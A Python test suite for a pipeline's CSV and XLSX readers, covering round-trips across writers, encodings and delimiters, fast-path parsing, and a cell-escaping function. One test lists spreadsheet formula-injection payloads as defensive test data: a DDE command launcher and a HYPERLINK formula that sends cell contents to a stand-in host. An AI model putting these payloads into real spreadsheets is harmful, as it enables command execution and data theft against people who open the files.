"""Any table written as CSV or XLSX reads back as it was, whoever wrote it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import polars as pl
import pyarrow as pa
import pytest
import xlsxwriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.read.catalog import ReadOptions
from pipeline.read.delimited import read_delimited
from pipeline.read.dialect import Dialect
from pipeline.read.fast import _Cells, read_fast
from pipeline.read.lines import Scanner
from pipeline.read.notes import Notes
from pipeline.read.table import TableWriter, batches_in
from pipeline.store.safe_csv import MARK, escape, unescape, write_catalog_csv, write_catalog_xlsx

LATIN = st.characters(codec="cp1252", exclude_categories=["Cc", "Cs", "Cf"], exclude_characters="\xa0\xad")
ANY = st.characters(exclude_categories=["Cc", "Cs"], exclude_characters="\ufeff\ufffe\uffff\uf8d0")
HEADERS = ("sku", "name", "price", "description")
RELAXED = settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def cells(alphabet, more=""):
    return st.text(st.one_of(alphabet, st.sampled_from(list('",;|\t\n ' + more))), max_size=12)


def tables(alphabet, more=""):
    sku = st.from_regex(r"[A-Z0-9]{3,8}", fullmatch=True)
    body = cells(alphabet, more)
    return st.lists(st.tuples(sku, body, body, body), min_size=1, max_size=8)


def expected(rows):
    return [tuple(cell or None for cell in row) for row in rows]


@RELAXED
@given(rows=tables(ANY))
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"], ids=["comma", "semicolon", "tab", "bar"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_csv_of_the_standard_library(read, rows, delimiter, encoding):
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter, quoting=csv.QUOTE_ALL).writerows([HEADERS, *rows])
    told = ReadOptions(delimiter=delimiter)
    seen = read(text.getvalue().encode(encoding), options=told)
    assert (seen.headers, seen.rows) == (HEADERS, expected(rows))


@RELAXED
@given(rows=tables(LATIN))
def test_csv_in_a_declared_old_encoding(read, rows):
    text = io.StringIO()
    csv.writer(text, quoting=csv.QUOTE_MINIMAL).writerows([HEADERS, *rows])
    seen = read(text.getvalue().encode("cp1252"), options=ReadOptions(delimiter=",", encoding="cp1252"))
    assert (seen.headers, seen.rows) == (HEADERS, expected(rows))


@RELAXED
@given(rows=tables(ANY, "=+-@'%"))
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_we_write_ourselves(read, tmp_path, rows, kind):
    path = tmp_path / f"ours.{kind}"
    write = write_catalog_csv if kind == "csv" else write_catalog_xlsx
    write(path, ("=sku", "name", "-price", "description"), rows)
    seen = read(path)
    assert seen.headers == ("=sku", "name", "-price", "description")
    assert seen.rows == expected(rows)


@RELAXED
@given(rows=tables(ANY))
def test_workbooks_of_xlsxwriter(read, rows):
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        for at, row in enumerate([HEADERS, *rows]):
            for column, cell in enumerate(row):
                sheet.write_string(at, column, cell)
    seen = read(out.getvalue(), name="a.xlsx")
    assert (seen.headers, seen.rows) == (HEADERS, expected(rows))


@given(st.text(max_size=20))
def test_no_cell_is_live_and_each_comes_back(cell):
    safe = escape(cell)
    assert unescape(safe) == cell
    bare = safe.lstrip(" \t\r\n\x00\ufeff")
    assert not bare.startswith(("=", "+", "@", "＝", "＋", "＠", "|", "%"))
    assert not bare.startswith(("-", "－")) or safe == cell


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|'/c calc'!A1",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        '=HYPERLINK("http://x/?"&A1)',
        "＝1",
        "'already",
    ],
)
def test_attacks_of_the_failure_model_are_defused(cell):
    assert escape(cell) == f"'{cell}"
    assert unescape(escape(cell)) == cell


@pytest.mark.parametrize("cell", ["-5", "-12.50", "0012", "A=B", "it's", ""])
def test_plain_cells_are_left_alone(cell):
    assert escape(cell) == cell


def test_an_apostrophe_in_a_foreign_file_stays(read):
    assert read(b"sku,name\n1,'=x\n").rows == [("1", "'=x")]
    assert read(f"sku,name,{MARK}\n1,'=x,\n".encode()).rows == [("1", "=x")]


@settings(max_examples=60, deadline=None)
@given(
    body=st.lists(
        st.sampled_from(['a"', '"a,\n', "b,c", '""', '"x"', ",", "\n", "\r\n", "ü", "1,2\n", '"q"" r",s\n']),
        max_size=25,
    )
)
def test_the_quick_way_sees_what_csv_sees_or_gives_up(tmp_path_factory, body):
    """Proof of the fast path: whatever it accepts is what the standard library reads."""
    folder = tmp_path_factory.mktemp("fast")
    path = folder / "a.csv"
    path.write_text("h1,h2\n" + "".join(body), encoding="utf-8", newline="")
    notes = Notes(file="a")
    with TableWriter(folder / "fast.arrow", ("h1", "h2")) as writer:
        took = read_fast(path, Dialect(), 1, writer, ReadOptions(), notes)
    if not took:
        return
    table, _ = read_delimited(
        path, "a", folder / "slow.arrow", folder, ReadOptions(delimiter=",", header_row=1, quote='"')
    )
    assert content(folder / "fast.arrow") == content(table.path)


def content(path: Path):
    return [row for batch in batches_in(path) for row in batch.to_pylist()]


@given(
    text=st.lists(st.sampled_from([b"a", b'"', b",", b"\n", b"\r", b"\0"]), max_size=30),
    cuts=st.lists(st.integers(1, 5), min_size=1),
)
def test_counting_does_not_depend_on_the_blocks(text, cuts):
    data = b"".join(text)
    whole, pieces = Scanner(","), Scanner(",")
    if not data:
        return
    whole.feed(data)
    at = 0
    for step in cuts * len(data):
        if at < len(data):
            pieces.feed(data[at : at + step])
        at += step
    assert whole.done() == pieces.done()


def _standard(rows, delimiter):
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter).writerows([HEADERS, *rows])
    return text.getvalue()


def _pandas(rows, delimiter):
    return pd.DataFrame(rows, columns=list(HEADERS)).to_csv(index=False, sep=delimiter)


def _polars(rows, delimiter):
    frame = pl.DataFrame(rows, schema=list(HEADERS), orient="row")
    return frame.write_csv(separator=delimiter, quote_style="non_numeric")


WRITERS = {"csv": _standard, "pandas": _pandas, "polars": _polars}


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"], ids=["comma", "semicolon", "tab", "bar"])
@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-32", "cp1252", "cp1250", "cp1251", "cp1256", "cp932"]
)
@pytest.mark.parametrize("writer", WRITERS.values(), ids=WRITERS.keys())
def test_every_writer_encoding_and_delimiter(read, data, writer, encoding, delimiter):
    """What is written with a declared encoding and delimiter reads back as it was, blanks as blanks."""
    codec = encoding if encoding.startswith("cp") else "utf-8"
    letters = st.characters(
        codec=codec,
        exclude_categories=["Cc", "Cs", "Cf", "Co"],
        exclude_characters="\ufeff\ufffe\uffff\\~¢£¬‖−〜",
    )
    rows = [row for row in data.draw(tables(letters)) if _round_trips(row, codec)] or [
        ("SKU1", "a", "b", "c")
    ]
    seen = read(
        writer(rows, delimiter).encode(encoding), options=ReadOptions(delimiter=delimiter, encoding=encoding)
    )
    assert (seen.headers, seen.rows) == (HEADERS, expected(rows))


def _round_trips(row, codec):
    """Whether a codec gives back what it takes: cp932 has two codes for some signs."""
    return all(cell.encode(codec).decode(codec) == cell for cell in row)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=tables(ANY))
def test_workbooks_of_openpyxl(read, rows):
    book = openpyxl.Workbook()
    for row in [HEADERS, *rows]:
        book.active.append([cell or None for cell in row])
    for line in book.active.iter_rows():
        for cell in line:
            cell.data_type = "s" if cell.value is not None else cell.data_type
    out = io.BytesIO()
    book.save(out)
    seen = read(out.getvalue(), name="a.xlsx")
    assert (seen.headers, seen.rows) == (HEADERS, expected(rows))


@pytest.mark.parametrize("start", range(7))
def test_empty_cells_are_nulls_wherever_a_column_begins(start):
    texts = ["a", "", "bc", "", "", "d"]
    for count in range(7 - start):
        column = _Cells.of(pa.array(texts).slice(start, count)).column
        column.validate(full=True)
        assert column.to_pylist() == [text or None for text in texts[start : start + count]]
